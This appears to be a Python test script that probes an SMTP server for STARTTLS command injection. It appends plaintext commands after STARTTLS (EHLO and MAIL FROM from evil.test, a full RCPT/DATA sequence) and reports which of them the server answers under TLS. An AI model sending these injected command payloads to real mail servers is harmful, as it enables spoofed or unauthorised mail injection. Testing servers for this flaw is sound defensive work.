"""Sends STARTTLS with more behind it, then one command over TLS; reports what was replied under TLS, one entry a variant.

Arguments: host, port, the certificate to trust."""

import json
import socket
import ssl
import sys

host, port, certificate = sys.argv[1], int(sys.argv[2]), sys.argv[3]
context = ssl.create_default_context(cafile=certificate)


def replies(stream):
    """Reads to the end; the lines."""
    octets = b""
    while True:
        try:
            more = stream.recv(4096)
        except (ssl.SSLError, ConnectionError):
            break
        if not more:
            break
        octets += more
    return octets.decode().splitlines()


def attempt(injected):
    plain = socket.create_connection((host, port), timeout=20)
    plain.recv(4096)
    plain.sendall(b"EHLO python.test\r\n")
    plain.recv(4096)
    plain.sendall(b"STARTTLS\r\n" + injected)
    said = plain.recv(4096).decode()
    secure = context.wrap_socket(plain, server_hostname="localhost")
    secure.sendall(b"RCPT TO:<ann@example.test>\r\nQUIT\r\n")
    lines = [line for line in replies(secure) if not line.startswith("221 ")]
    return {"clear": said, "secure": lines}


VARIANTS = [
    b"NOOP\r\n",
    b"EHLO evil.test\r\nMAIL FROM:<evil@evil.test>\r\n",
    b"EHLO evil.test\r\nMAIL FROM:<evil@evil.test>\r\nRCPT TO:<ann@example.test>\r\nDATA\r\nx\r\n.\r\n",
    b"NOOP",
]
print(json.dumps([attempt(injected) for injected in VARIANTS]))
